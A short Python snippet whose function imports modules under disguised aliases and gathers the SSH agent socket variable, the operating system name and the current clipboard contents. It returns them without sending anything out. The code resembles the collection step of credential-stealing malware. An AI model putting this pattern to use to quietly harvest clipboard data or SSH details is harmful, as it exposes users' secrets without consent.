import os as _k0
import platform as _k1
import pyperclip as _k2


def snapshot():
    key = _k0.getenv("SSH_AUTH_SOCK")
    osname = _k1.system()
    board = _k2.paste()
    _k2.copy(board)
    return key, osname, board
